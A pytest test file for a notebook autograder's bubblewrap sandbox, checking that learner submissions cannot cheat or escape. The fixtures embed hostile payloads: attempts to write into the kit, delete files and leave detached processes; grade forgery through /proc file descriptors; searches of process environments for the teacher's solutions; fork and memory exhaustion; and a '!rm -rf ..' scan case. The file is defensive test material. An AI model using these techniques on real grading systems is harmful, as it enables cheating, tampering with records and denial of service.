    assert sorted(rows) == [("Bo Smith", EX1, "NOT GRADED"), ("Bo Smith", EX2, "PASS"),
                            ("Bo Smith", "03_budget_and_progress.ipynb", "PASS"), ("Zoe", EX1, "PASS")]


def test_a_forked_worker_imports_as_python_dash_I_would(tmp_path, monkeypatch):
    """grader/workers.py: a worker forked from the warm process looks modules up where `python -I
    grader/worker.py` would (the kit's root, grader/, Python's own folders): never in its working folder (a
    notebook's kernel can write files there), a PYTHONPATH folder or the user's site-packages."""
    from grader import workers

    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    monkeypatch.setenv("PYTHONPATH", str(tmp_path / "elsewhere"))
    monkeypatch.setattr(sys, "path", ["", str(tmp_path / "here"), str(tmp_path / "elsewhere"), *sys.path])
    path = workers.import_path()
    assert path[:2] == [str(ROOT), str(ROOT / "grader")] and path.count(str(ROOT)) == 1
    assert not {"", str(tmp_path / "here"), str(tmp_path / "elsewhere")} & set(path), path


def test_the_scan_flags_grader_internals_and_not_a_plain_answer():
    from grader.submissions import scan

    cell = lambda text: {"id": "c", "source": text}  # noqa: E731
    assert scan([cell("import grading\ngrading.Checks.ok = lambda *a: True")])
    assert scan([cell("import sys\nsys.modules['grading'].check_policy = print")])
    assert scan([cell("!rm -rf ..")])
    assert scan([cell("import builtins\nbuiltins.print = lambda *a: None")])
    assert scan([cell(PRINT_PATCH)]) and scan([cell(MODULE_SWAP)])  # two older forgeries: print silenced, grading swapped
    assert not scan([cell(src(next(c for c in solution(EX1)["cells"] if c["id"] == "run-tool-uses")))])
    assert not scan([cell(src(next(c for c in solution(EX2)["cells"] if c["id"] == "capped-loop")))])


def test_the_exercise_is_found_by_its_cells_not_its_name():
    from grader.submissions import identify

    lock = load(EXERCISES / "checks.lock")
    assert identify(solution(EX1), lock) == EX1 and identify(starter(EX2), lock) == EX2
    assert identify({"cells": []}, lock) is None



def test_a_submission_is_rebuilt_from_the_edition_it_was_made_from():
    from grader.submissions import closest

    en = starter(EX1)
    assert closest(solution(EX1), [en]) is en
    if (EXERCISES / "es" / EX1).is_file():  # the Spanish edition: same grader cells, Spanish prose and setup
        es = load(EXERCISES / "es" / EX1)
        assert closest(solution(EX1), [en, es]) is en
        assert closest(load(EXERCISES / "es" / "solutions" / EX1), [en, es]) is es


def test_outside_git_the_kit_files_skip_grading_folders_and_survive_one_vanishing(tmp_path, monkeypatch):
    """A Classroom export is no git checkout: the files are walked. Its four grading steps run at once, each
    gradebook deleting its own _grading_tmp_ folder while another walks the kit: that once failed a solution's
    grade with FileNotFoundError. Here a folder "vanishes" (scanning it raises) the moment it is entered."""
    import grader.unchanged as gradebook  # (the gradebook's module for the kit's files)

    kit = tmp_path / "kit"
    for name in ("README.md", "exercises/grading.py", "exercises/_grading_tmp_gradebook_x/a/copy.ipynb",
                 "exercises/gone/old.txt", ".venv/lib/site.py", "harness_lib/__pycache__/loop.pyc"):
        (kit / name).parent.mkdir(parents=True, exist_ok=True)
        (kit / name).write_text("x")
    real_scandir = os.scandir

    def scandir(path="."):
        if Path(path).name.startswith("_grading_tmp_") or Path(path).name == "gone":
            raise FileNotFoundError(2, "No such file or directory", str(path))  # deleted by the other run
        return real_scandir(path)

    monkeypatch.setattr(gradebook, "ROOT", kit)
    monkeypatch.setattr(os, "scandir", scandir)
    monkeypatch.setenv("GIT_CEILING_DIRECTORIES", str(tmp_path))  # git finds no repository above the kit
    found = sorted(p.relative_to(kit).as_posix() for p in gradebook.kit_files())
    assert found == ["README.md", "exercises/grading.py"]


# ---- what a teacher gets besides the verdicts (no kernel needed) ---------------------------------------------

def test_learner_ids_from_lms_downloads_moodle_folders_and_cloned_classroom_repositories(tmp_path):
    from grader.gradebook import discover

    for rel in ("José Núñez - 01_tiered_policy.ipynb", "perezana_1234_5678_02_missing_guards.ipynb",
                "late_bo_1234_5678_02_missing_guards.ipynb", "just-a-file.ipynb",
                "Ana Pérez_4321_assignsubmission_file_/01_tiered_policy.ipynb"):
        (tmp_path / "lms" / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / "lms" / rel).write_text("{}", encoding="utf-8")
    for who in ("harness-exercises-ana-p", "harness-exercises-bo"):  # `gh classroom clone student-repos`
        (tmp_path / "repos" / who / "exercises").mkdir(parents=True)
        (tmp_path / "repos" / who / "exercises" / EX1).write_text("{}", encoding="utf-8")
    assert sorted(j.learner for j in discover(tmp_path / "lms")) == [
        "Ana Pérez (4321)", "José Núñez", "bo (1234)", "just-a-file", "perezana (1234)"]  # (the LMS's id kept)
    assert sorted(j.learner for j in discover(tmp_path / "repos")) == ["ana-p", "bo"]
    # a cloned repository whose Classroom workflow was edited (its points are not the teacher's): a note to look at
    for who, text in (("harness-exercises-ana-p", None), ("harness-exercises-bo", b"on: push\njobs: {}\n")):
        workflow = tmp_path / "repos" / who / ".github" / "workflows" / "classroom.yml"
        workflow.parent.mkdir(parents=True)
        workflow.write_bytes(text or (ROOT / ".github" / "workflows" / "classroom.yml").read_bytes())
    # ...or that deleted it and added a workflow of its own, or added one beside the kit's, or linked it elsewhere
    for who in ("harness-exercises-cy", "harness-exercises-di", "harness-exercises-ed"):
        (tmp_path / "repos" / who / "exercises").mkdir(parents=True)
        (tmp_path / "repos" / who / "exercises" / EX1).write_text("{}", encoding="utf-8")
        (tmp_path / "repos" / who / ".github" / "workflows").mkdir(parents=True)
    kit_workflow = (ROOT / ".github" / "workflows" / "classroom.yml").read_bytes()
    (tmp_path / "repos" / "harness-exercises-cy" / ".github" / "workflows" / "points.yml").write_text("on: push\n")
    (tmp_path / "repos" / "harness-exercises-di" / ".github" / "workflows" / "classroom.yml").write_bytes(kit_workflow)
    (tmp_path / "repos" / "harness-exercises-di" / ".github" / "workflows" / "extra.yml").write_text("on: push\n")
    (tmp_path / "repos" / "harness-exercises-ed" / ".github" / "workflows" / "classroom.yml").symlink_to(
        ROOT / ".github" / "workflows" / "classroom.yml")
    (tmp_path / "repos" / "harness-exercises-ana-p" / ".github" / "classroom-template").write_text("marker")
    looked_at = {j.learner: j.notes for j in discover(tmp_path / "repos")}
    assert looked_at["ana-p"] == [] and "classroom.yml is not the kit's" in looked_at["bo"][0]
    assert ".github/workflows/classroom.yml is missing" in looked_at["cy"][0]
    assert ".github/workflows/points.yml was added" in looked_at["cy"][0]
    assert looked_at["di"] == [looked_at["di"][0]] and ".github/workflows/extra.yml was added" in looked_at["di"][0]
    assert "classroom.yml is not" not in looked_at["di"][0]
    assert ".github/workflows/classroom.yml is a symlink" in looked_at["ed"][0]
    assert "is missing" not in looked_at["ed"][0]
    assert all(j.notes == [] for j in discover(tmp_path / "lms"))


def test_an_answer_taken_from_the_library_or_a_lesson_is_shown_to_a_person():
    from grader.submissions import borrowed, lesson_cells

    lessons = lesson_cells()
    pasted = next(c for c in lessons if "async def" in c)
    found = borrowed([{"id": "capped-loop", "source": pasted},
                      {"id": "own", "source": "def run_tool_uses(content):\n    return []\n"}], lessons)
    assert found == ["cell 'capped-loop' is a lesson's cell, pasted as it is"]


def test_the_lessons_comparison_made_while_the_kernels_start_keeps_its_place_and_never_decides_a_verdict(monkeypatch):
    """The gradebook compares a notebook's cells with the lessons once its kernel is starting (note_pasted): each
    line goes where prepare kept its place among the notebook's other lines, and a comparison that fails is a line
    there saying so, the verdict left to the checks."""
    from grader import gradebook
    from grader.gradebook import Job
    from grader.submissions import lesson_cells

    pasted = next(c for c in lesson_cells() if "async def" in c)
    copied = Job(path=Path("a.ipynb"), learner="ana", file="a.ipynb", notes=["the file is named for 02", "alike"],
                 pasted=(1, [{"id": "capped-loop", "source": pasted}]))
    broken = Job(path=Path("b.ipynb"), learner="bo", file="b.ipynb", verdict="PASS", notes=["alike"], pasted=(0, []))
    gradebook.note_pasted([copied])
    assert copied.notes == ["the file is named for 02", "cell 'capped-loop' is a lesson's cell, pasted as it is",
                            "alike"] and copied.pasted is None

    def fails(cells, lessons):
        raise RecursionError("nested too deep")

    monkeypatch.setattr(gradebook, "borrowed", fails)
    gradebook.note_pasted([broken])
    assert broken.notes == ["not compared with the lessons: RecursionError", "alike"] and broken.verdict == "PASS"


def test_a_function_not_written_in_a_cell_is_shown_to_a_person():
    """Decided from where the function was defined (the defendant's facts), not from the words of the cell: any
    import form, importlib, pkgutil, runpy or exec of the library's source. Only the functions the exercise asks
    for are looked at; one written in a cell is not."""
    from grader.submissions import not_written, to_write

    assert to_write(load(EXERCISES / EX1)) == {"run_tool_uses"}
    assert to_write(load(EXERCISES / "03_budget_and_progress.ipynb")) == {
        "tokens_of", "signature_of", "find_short_cycle", "run_guarded"}
    cell = {"module": "__main__", "file": "/kernel-tmp/ipykernel_7/123.py", "cell": 4}
    library = {"module": "harness_lib.loop", "file": "/kit/harness_lib/loop.py", "cell": None}
    made = {"module": "__main__", "file": "<string>", "cell": None}
    assert not_written({"run_tool_uses": cell, "make_client": library}, {"run_tool_uses"}) == []
    assert not_written({"run_tool_uses": library}, {"run_tool_uses"}) == [
        "run_tool_uses was not written in a cell of the notebook: its code was compiled from loop.py "
        "(module harness_lib.loop)"]
    assert not_written({"tokens_of": made, "run_guarded": None}, {"tokens_of", "run_guarded"}) == [
        "tokens_of was not written in a cell of the notebook: its code was compiled from <string> (module __main__)"]


def test_merge_excel_feedback_and_a_misnamed_file(tmp_path):
    """Rows that need no kernel (a refused notebook, a broken file): --merge keeps the other learners' rows of an
    existing CSV, --excel writes a BOM, --feedback writes one file per learner in the notebook's language, and a
    file named for another exercise is pointed out to a person."""
    from grader import gradebook

    spanish = load(EXERCISES / "es" / "solutions" / EX1)
    edit(spanish, "check-deny", prepend="# ")  # an edited check: refused before any kernel
    (tmp_path / "class").mkdir()
    (tmp_path / "class" / f"Lía Gómez - {EX2}").write_text(json.dumps(spanish), encoding="utf-8")
    (tmp_path / "class" / "Max - notes.ipynb").write_text("not json", encoding="utf-8")
    out = tmp_path / "grades.csv"
    out.write_text("learner,file,verdict,01:check-policy\nZoe,zoe.ipynb,PASS,1\nMax,old.ipynb,FAIL,0\n",
                   encoding="utf-8")
    assert gradebook.main([str(tmp_path / "class"), "--out", str(out), "--merge", "--excel",
                           "--feedback", str(tmp_path / "fb"), "-j", "1"]) == 0
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = {r["learner"]: r for r in csv.DictReader(raw.decode("utf-8-sig").splitlines())}
    assert set(rows) == {"Zoe", "Max", "Lía Gómez"} and rows["Zoe"]["01:check-policy"] == "1"
    assert rows["Max"]["verdict"] == "ERROR" and rows["Max"]["points"] == "0"
    lia = rows["Lía Gómez"]
    assert lia["verdict"] == "NOT GRADED" and lia["points"] == "0" and lia["01:check-policy"] == ""
    assert f"to look at: the file is named for {EX2}, but it holds exercise {EX1}" in lia["reason"]
    note = (tmp_path / "fb" / "Lía Gómez" / "01_tiered_policy.md").read_text(encoding="utf-8")
    assert note.startswith("# Comentarios: 01_tiered_policy.ipynb") and "Veredicto: **NOT GRADED**, 0 puntos." in note
    assert "Why: " not in note and "Motivo: " in note
    (broken,) = (tmp_path / "fb" / "Max").glob("*.md")
    assert broken.read_text(encoding="utf-8").startswith("# Feedback: Max - notes.ipynb")


# ---- the sandbox ------------------------------------------------------------------------------------------------

def bwrap_or_skip():
    from grader.sandbox import sandbox_available

    why = sandbox_available()
    if why and os.environ.get("CI") == "true":
        pytest.fail(f"CI must grade in the sandbox: {why} (.ci/run installs Debian's bubblewrap)")
    if why:
        pytest.skip(why)

# What a submission tries from its exercise cell (names built at run time, so no scan sees them), each in its own
# try: the honest answer below it still runs. Everything it manages to do is printed, and so is what it sees.
ESCAPES = """\
import os as _o, socket as _s, subprocess as _p, pathlib as _l
_r = lambda *a: print("ESCAPE:", *a)
try:
    _c = _s.create_connection(("127.0.0.1", {port}), timeout=2); _c.sendall(b"mallory"); _r("connected")
except OSError as _e:
    print("socket:", type(_e).__name__)
for _t in [{kit!r} + "/site" + "customize.py", {kit!r} + "/README.md", {klass!r} + "/mallory-was-here.txt",
           {out!r} + "/keep.txt"]:
    try:
        open(_t, "a").write("mallory"); _r("wrote", _t)
    except OSError as _e:
        print("write:", type(_e).__name__)
try:
    _o.remove({kit!r} + "/docs/teaching.md"); _r("deleted a doc")
except OSError as _e:
    print("delete:", type(_e).__name__)
try:
    print("class folder holds:", sorted(_o.listdir({klass!r})))
except OSError as _e:
    print("class folder:", type(_e).__name__)
print("processes seen:", len([d for d in _o.listdir("/proc") if d.isdigit()]))
_p.Popen(["sh", "-c", "sleep 30 # mallory-{tag}"], start_new_session=True, stdout=_p.DEVNULL, stderr=_p.DEVNULL)
"""


FORGE = """\\
import json as _j, os as _o, signal as _g
_checks = {checks!r}
_report = {{"cells": [{{"id": c, "kind": "check", "status": "ok", "ename": "", "evalue": "", "text": "", "capped": False}}
                      for c in _checks], "seals": [{{"after": a, "seal": {{"same": "1"}}}} for a in [None] + _checks]}}
_line = ("GRADEBOOK" + "-RESULT " + _j.dumps(_report) + "\\\\n").encode()
_hit = []
for _pid in [p for p in _o.listdir("/proc") if p.isdigit()]:
    try:
        _fd = _o.open(f"/proc/{{_pid}}/fd/1", _o.O_WRONLY | _o.O_APPEND)
        _o.write(_fd, _line); _o.close(_fd); _hit.append(_pid)
    except OSError:
        pass
print("forged into", _hit)
_o.kill(_o.getppid(), _g.SIGKILL)
"""


DETACHED = '''\
import os as _o
if _o.fork() == 0:  # a detached process: a new session, double-forked, that outlives its notebook if it can
    _o.setsid()
    if _o.fork() == 0:  # the gradebook is done after a few seconds: from then on, rewrite the learner's row
        _o.execvp("sh", ["sh", "-c", "for i in $(seq 60); do echo rewriter,PASS,10 >> {csv}; "
                         "echo rewriter >> {out}/keep.txt; sleep 0.25; done # rewriter-{tag}"])
    _o._exit(0)
'''


COPYCAT = """\
import json as _j, re as _r
_theirs = _j.load(open({theirs!r}, encoding="utf-8"))  # a classmate's graded notebook, found on the disk
_cell = "".join(next(c["source"] for c in _theirs["cells"] if c.get("id") == "policy"))
POLICY = dict(_r.findall(r'^\\s*"(\\w+)": "(\\w+)"', _cell, _r.M))
DEFAULT_TIER = _r.search(r'^DEFAULT_TIER = "(\\w+)"', _cell, _r.M).group(1)
"""

# cat looks for the teacher's solution from inside the sandbox: through the kit's own path (harness_lib.__file__)
# and through every path named by a process's command line or environment, or by a mount. Found, its policy is
# copied from there (the names built at run time, so the scan sees none of them).
SEEKER = """\
import os as _o, re as _r, harness_lib as _h
_hidden = "solu" + "tions"
_places = {_o.path.dirname(_o.path.dirname(_h.__file__))}
_seen = []
for _pid in [p for p in _o.listdir("/proc") if p.isdigit()] + ["self"]:
    for _what in ("cmdline", "environ", "mountinfo"):
        try:
            _text = open(f"/proc/{_pid}/{_what}", "rb").read().replace(b"\\0", b" ").decode(errors="replace")
        except OSError:
            continue
        _seen.append(_text)
        _places |= set(_r.findall(r"(/[^ =:]+)", _text))
_found = [p for p in _places for p in (p, p + "/exercises/" + _hidden) if _o.path.isdir(p) and p.endswith(_hidden)]
_found += [p for p in _places if _o.path.isdir(p + "/.git") or p.endswith("/.git")]
print("places", len(_places), "found", _found, "named", [t for t in _seen if _hidden in t or "/.git" in t])
for _p in _found:
    _sol = _o.path.join(_p, "01_tiered_policy.ipynb")
    if _o.path.isfile(_sol):
        import json as _j
        _cell = "".join(next(c["source"] for c in _j.load(open(_sol))["cells"] if c.get("id") == "policy"))
        POLICY = dict(_r.findall(r'^\\s*"(\\w+)": "(\\w+)"', _cell, _r.M))
        DEFAULT_TIER = _r.search(r'^DEFAULT_TIER = "(\\w+)"', _cell, _r.M).group(1)
"""
# mallory's answer is right; two cells she adds send what the worker once kept whole: display updates and widget (comm)
# messages of 100 KB each (4 MB of each), and an error of 3 MB
FLOOD = """\
import comm as _c
_h = display("start", display_id=True)
for _i in range(40):
    _h.update("u" * 100_000)
_w = _c.create_comm(target_name="jupyter.widget", data={"state": {"v": "w"}, "buffer_paths": []})
for _i in range(40):
    _w.send({"method": "update", "state": {"v": "w" * 100_000}, "buffer_paths": []})
"""
# cat's exercise cell runs into the sandbox's limits: a file over --disk (caught), then 3 GB of memory (over
# --memory, 2 GB)
HOG = """\
try:
    with open("big.bin", "wb") as _f:
        for _ in range(100):
            _f.write(b"x" * 2 ** 20)
except OSError as _e:
    print("disk:", _e)
_big = bytearray(3 * 2 ** 30)
"""


@pytest.fixture(scope="module")
def sandboxed(tmp_path_factory):
    """One run of the gradebook in the sandbox (-j 2) over two learners whose notebooks try what only the sandbox
    stops (without it, each one succeeds):
    - mallory's exercise cell tries to connect to a listener on 127.0.0.1, write into the kit (a sitecustomize.py,
      the README), delete a doc of the kit, write into the class folder and the CSV's folder, read a classmate's
      work, and leave a process behind; her honest answer runs after that;
    - cat's policy cell leaves a detached process that rewrites the CSV after the run, looks for the teacher's
      solution (SEEKER), and reads a classmate's answer (ned's, outside the graded folder) from the disk; her
      exercise cell then writes past --disk and asks for more memory than --memory (HOG); and a cell she adds after
      the last check forges the grading worker's result line through /proc (FORGE, trudy's once);
    - mallory's two added cells flood the worker with output.
    (Where one notebook shows two of these, each has a test of its own: mallory's escapes and her flood; cat's
    search, her detached process, the limits and the forgery, her policy judged before her exercise cell runs and
    every check before the forgery.)
    (The forgeries only the judge stops are graded outside the sandbox, in the class above: FORGERIES.)"""
    import socket
    import threading

    bwrap_or_skip()
    tmp = tmp_path_factory.mktemp("sandboxed")
    klass, out, tag = tmp / "class", tmp / "out", uuid.uuid4().hex[:8]
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.2)
    heard, stop = [], threading.Event()

    def listen():
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
                heard.append(conn.recv(100))
                conn.close()
            except OSError:
                pass
    theirs = tmp / "others" / "ned" / EX1  # a classmate's work, on the same disk
    theirs.parent.mkdir(parents=True)
    shutil.copy2(EXERCISES / "solutions" / EX1, theirs)
    out.mkdir()
    (out / "keep.txt").write_text("the teacher's", encoding="utf-8")
    checks = ["check-policy", "check-allow", "check-deny", "check-ask", "check-default-tier", "check-parallel"]
    attack = ESCAPES.format(port=listener.getsockname()[1], kit=str(ROOT), klass=str(klass), out=str(out), tag=tag)
    notebooks = {
        "mallory": added(edit(solution(EX1), "policy", prepend=attack + "\n"), "run-tool-uses",
                         {"flood": FLOOD, "boom": 'raise ValueError("e" * 3_000_000)'}),
        # cat's policy cell: a detached process first (DETACHED), the starter's cell, then both ways to a right
        # answer from outside the notebook, SEEKER and COPYCAT (in a try: the cell must not raise when the
        # classmate's file is not there, or a policy SEEKER found would count for nothing): either one found, the
        # check passes (measured with --sandbox none). One kernel for the three, each with a test of its own.
        "cat": added(edit(edit(starter(EX1), "run-tool-uses", prepend=HOG + "\n"), "policy",
                    whole=DETACHED.format(csv=str(out / "grades.csv"), out=str(out), tag=tag)
                    + src(next(c for c in starter(EX1)["cells"] if c.get("id") == "policy"))
                    + "\n" + SEEKER + "try:\n" + textwrap.indent(COPYCAT.format(theirs=str(theirs)), "    ")
                    + "except OSError:\n    pass\n"), "check-parallel", {"forge": FORGE.format(checks=checks)}),
    }
    for who, nb in notebooks.items():
        (klass / who).mkdir(parents=True)
        (klass / who / EX1).write_text(json.dumps(nb), encoding="utf-8")
    before_kit, before_class = git_status(), tree_digest(klass)
    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    try:
        run = subprocess.run([sys.executable, "-m", "grader.gradebook", str(klass), "--out",
                              str(out / "grades.csv"), "-j", "2", "--sandbox", "bwrap", "--cell-timeout", "20",
                              "--disk", "64",
                              "--feedback", str(out / "fb")],
                             cwd=ROOT, capture_output=True, text=True, timeout=600)
    finally:
        stop.set()
        thread.join()
        listener.close()
    assert run.returncode == 0, run.stdout[-2000:] + run.stderr[-2000:]
    written, ended = (out / "grades.csv").read_bytes(), time.monotonic()
    rows = {row["learner"]: row for row in csv.DictReader(written.decode("utf-8").splitlines())}
    yield {"rows": rows, "out": out, "written": written, "tag": tag, "heard": heard, "klass": klass,
           "before_kit": before_kit, "before_class": before_class, "ended": ended}
    subprocess.run(["pkill", "-f", f"rewriter-{tag}"])


PROBE = r"""
import json, os, resource, sys
sys.path.insert(0, KIT)  # (as the kernel's start-up does)
out = {"exists": {p: os.path.exists(os.path.join(KIT, p)) for p in (
    "exercises/solutions", "exercises/es/solutions", ".git", "tests/test_gradebook.py", "docs/teaching.md",
    "grader/gradebook.py", "grader/judge.py", "exercises/grading.py", "grader/defendant.py",
    "harness_lib/loop.py", "workspace/README.md")}}
import harness_lib
out["lib"] = harness_lib.__file__
texts = []
for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self"]:
    for what in ("cmdline", "environ", "mountinfo"):
        try:
            texts.append(open(f"/proc/{pid}/{what}", "rb").read().decode(errors="replace"))
        except OSError:
            pass
out["texts"] = texts
out["limits"] = [resource.getrlimit(r)[0] for r in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE)]
try:
    with open("big.bin", "wb") as f:
        for _ in range(40):
            f.write(b"x" * 2 ** 20)
    out["disk"] = "wrote 40 MB"
except OSError as err:
    out["disk"] = str(err)
out["dev"] = {}
for where, files in (("/dev/planted", 1), ("/dev/shm/planted", 4)):  # /dev was half the host's memory
    try:
        for i in range(files):  # (files of 10 MB: under --disk each, 40 MB in all)
            with open(f"{where}{i}", "wb") as f:
                for _ in range(10):
                    f.write(b"x" * 2 ** 20)
        out["dev"][where] = "written"
    except OSError as err:
        out["dev"][where] = err.strerror
out["ipc"] = {}
for where, size in ((os.path.join(CONNECTION, "planted.bin"), 1), ("/ipc/planted.bin", 2 * 2 ** 20)):
    try:
        with open(where, "wb") as f:
            f.write(b"x" * size)
        out["ipc"][where] = "written"
    except OSError as err:
        out["ipc"][where] = err.strerror
import socket
socket.socket(socket.AF_UNIX).bind("/ipc/kernel-1")  # what the kernel binds there: its sockets
out["ipc"]["socket"] = sorted(os.listdir("/ipc"))
out["uid"], out["pid namespace"] = os.getuid(), os.readlink("/proc/self/ns/pid")
read, write = os.pipe()  # processes until the limit stops them: each child waits for the pipe to close
children = []
try:
    while len(children) < 400:
        pid = os.fork()
        if pid == 0:
            os.close(write)
            os.read(read, 1)
            os._exit(0)
        children.append(pid)
    out["fork"] = "no limit"
except OSError as err:
    out["fork"] = f"{type(err).__name__}: {err.strerror}"
out["children"] = len(children)
os.close(write)
for pid in children:
    os.waitpid(pid, 0)
print(json.dumps(out))
"""


def left_in(namespace: str, wait: float = 5) -> list[str]:
    """The processes of a pid namespace (as /proc/PID/ns/pid names it) still running once its first process is gone:
    waits up to `wait` s for them to end. An ended one the host's init has not reaped yet (a zombie: bwrap's own
    first process, whose parent does not wait for it) runs nothing and is not counted."""
    deadline = time.monotonic() + wait
    while True:
        left = []
        for pid in filter(str.isdigit, os.listdir("/proc")):
            with contextlib.suppress(OSError):
                if (os.readlink(f"/proc/{pid}/ns/pid") == namespace
                        and Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"):
                    left.append(pid)
        if not left or time.monotonic() > deadline:
            return left
        time.sleep(0.02)


def test_a_sandboxed_process_sees_only_the_learners_view_and_its_limits(tmp_path):
    """The kernel's sandbox, run with a probe in place of the kernel (no kernel started): the kit it sees is the
    learner's view (no solutions, no .git, no tests, no teacher's docs, no gradebook; the grader's cells and the
    library are there), harness_lib.__file__ leads into it, and no command line, environment or mount of any process
    it can see names a hidden folder or the teacher's environment; its limits are set, and a file over --disk stops
    at the limit without reaching the host's disk; the kernel's socket folders take no file from it. The process
    limit holds, measured: the probe starts processes until the OS refuses one, at the limit less the sandbox's
    two (bwrap, the probe), as root too (the sandbox then starts as another user: grader/sandbox.py's kernel_user);
    afterwards no process of the sandbox is left and the host's mounts are as they were."""
    from grader import sandbox

    bwrap_or_skip()
    mounts = Path("/proc/self/mountinfo").read_text()
    view, work = sandbox.learner_view(tmp_path / "view"), tmp_path / "work"
    work.mkdir()
    connection = tmp_path / "kit-ipc-test"  # the folder of the kernel's connection file, as the worker makes it
    connection.mkdir()
    (connection / "kernel.json").write_text("{}")
    argv = sandbox.sandbox_argv(work, [], view, disk=16 * 2 ** 20) + sandbox.ipc_argv(str(connection))
    spec = {"bwrap": argv, "limits": {"memory": 2 ** 31, "processes": 100, "disk": 16 * 2 ** 20},
            "info": str(tmp_path / "info.json"), "user": sandbox.kernel_user()}
    code = ("import sys\nsys.path.insert(0, sys.argv[1])\nfrom grader.sandbox import exec_sandboxed\n"
            "import json\nexec_sandboxed(json.loads(sys.argv[2]), [sys.executable, '-c', 'exec(eval(input()))'])\n")
    env = dict(os.environ, TEACHER_SECRET_PLACE=str(ROOT / "exercises" / "solutions"), HARNESS_OFFLINE="1")
    probe = repr(f"KIT = {str(ROOT)!r}\nCONNECTION = {str(connection)!r}\n" + PROBE)  # on stdin, one line: the probe's own command line names nothing
    run = subprocess.run([sys.executable, "-I", "-c", code, str(ROOT), json.dumps(spec)], input=probe + "\n",
                         capture_output=True, text=True, env=env, timeout=60)
    assert run.returncode == 0, run.stderr[-2000:]
    seen = json.loads(run.stdout)
    hidden = ("exercises/solutions", "exercises/es/solutions", ".git", "tests/test_gradebook.py", "docs/teaching.md",
              "grader/gradebook.py", "grader/judge.py")
    assert {p: seen["exists"][p] for p in hidden} == dict.fromkeys(hidden, False), seen["exists"]
    assert all(seen["exists"][p] for p in ("exercises/grading.py", "grader/defendant.py", "harness_lib/loop.py",
                                           "workspace/README.md")), seen["exists"]
    assert seen["lib"] == str(ROOT / "harness_lib" / "__init__.py")
    named = [t for t in seen["texts"] if "solutions" in t or "/.git" in t or "TEACHER_SECRET" in t]
    assert seen["texts"] and not named, named
    assert seen["limits"] == [2 ** 31, 100, 16 * 2 ** 20]
    assert seen["disk"] != "wrote 40 MB" and not (work / "big.bin").exists()
    # /dev is read-only; /dev/shm is a tmpfs of at most --disk (here 16 MB): 1 GB written there was the host's Shmem
    assert seen["dev"] == {"/dev/planted": "Read-only file system", "/dev/shm/planted": "No space left on device"}
    # the kernel's sockets: its connection file's folder takes no file; its own IPC tmpfs takes sockets, and at most
    # IPC_BYTES of anything else, none of it on the host's disk; bwrap said which process the worker reaches it by
    assert seen["ipc"] == {str(connection / "planted.bin"): "Read-only file system",
                           "/ipc/planted.bin": "No space left on device", "socket": ["kernel-1", "planted.bin"]}, seen
    assert sorted(p.name for p in connection.iterdir()) == ["kernel.json"]
    assert re.fullmatch(r"/proc/\d+/" + "root/ipc", sandbox.ipc_outside(tmp_path / "info.json"))
    assert seen["uid"] != 0 and seen["fork"] == "BlockingIOError: Resource temporarily unavailable", seen["fork"]
    assert seen["children"] == 100 - 2, seen["children"]
    assert left_in(seen["pid namespace"]) == [] and Path("/proc/self/mountinfo").read_text() == mounts


def test_run_as_root_the_sandbox_starts_as_another_user_or_bwrap_refuses(tmp_path, monkeypatch, capsys):
    """(pure) Run as root, a sandbox that cannot start as another user would not hold the process limit: --sandbox
    bwrap refuses, saying why in one line (auto sandboxes as root and says so on every row: ROOT_SANDBOX)."""
    from grader import gradebook, sandbox

    monkeypatch.setattr(sandbox.shutil, "which", lambda name: None)
    assert "through util-linux's setpriv: not installed" in sandbox.kernel_user_available((65534, 65534))
    monkeypatch.setattr(gradebook, "sandbox_available", lambda: "")
    monkeypatch.setattr(sandbox, "kernel_user", lambda: (65534, 65534))
    monkeypatch.setattr(sandbox, "kernel_user_available", lambda user: "setpriv is not installed")
    with pytest.raises(SystemExit) as ended:
        gradebook.main([str(tmp_path), "--sandbox", "bwrap", "--out", str(tmp_path / "grades.csv")])
    assert ended.value.code == 2 and "--sandbox bwrap: setpriv is not installed" in capsys.readouterr().err
    assert not (tmp_path / "grades.csv").exists()


def test_every_sandboxed_row_says_so_and_no_forgery_gets_points(sandboxed):
    rows = sandboxed["rows"]
    assert sorted(rows) == ["cat", "mallory"]
    for who, row in rows.items():
        assert row["sandbox"] == "bwrap", row
        if who != "mallory":  # (her own answers are right)
            assert row["verdict"] != "PASS" and row["points"] == "0", row
            assert all(row[column] in ("0", "") for column in row if column.startswith("01:")), row


def test_the_sandbox_keeps_a_submission_from_the_network_the_kit_the_class_and_the_grade(sandboxed):
    """mallory: nothing connected to the listener, the kit and the class folder are as they were, the CSV's folder
    holds only what the gradebook wrote, and no process she started outlived her notebook."""
    out = sandboxed["out"]
    assert sandboxed["rows"]["mallory"]["verdict"] in ("PASS", "NOT GRADED"), sandboxed["rows"]["mallory"]
    assert sandboxed["heard"] == []  # nothing connected to the listener
    assert not (ROOT / "sitecustomize.py").exists() and git_status() == sandboxed["before_kit"]
    assert tree_digest(sandboxed["klass"]) == sandboxed["before_class"]
    assert sorted(p.name for p in out.iterdir()) == ["fb", "grades.csv", "grades.md", "keep.txt"]
    left = subprocess.run(["pgrep", "-f", f"mallory-{sandboxed['tag']}"], capture_output=True, text=True).stdout.split()
    assert left == [], "a process the notebook started outlived it"


def test_the_teachers_solutions_are_not_in_the_sandbox(sandboxed):
    """cat looks for the solution through harness_lib.__file__ and every path the sandbox's processes name (command
    lines, environments, mounts): the kernel sees the learner's view of the kit, so it finds none and its policy
    check fails as the starter's does. (With the kit itself mounted, it found exercises/solutions/: PASS.) Its
    policy cell then tries a classmate's file too (the next test): either one found, the check would pass."""
    row = sandboxed["rows"]["cat"]
    assert row["verdict"] == "FAIL" and row["01:check-policy"] == "0", row


def test_a_notebook_over_a_limit_is_stopped_and_its_row_says_which(sandboxed):
    """cat's exercise cell writes past --disk (its folder is a tmpfs of that size, any one file at most that big:
    caught) and then asks for 3 GB (over --memory): her row names the memory limit; the host has nothing of the
    file."""
    row = sandboxed["rows"]["cat"]
    assert row["verdict"] == "FAIL" and "was stopped by the memory limit (--memory)" in row["reason"], row
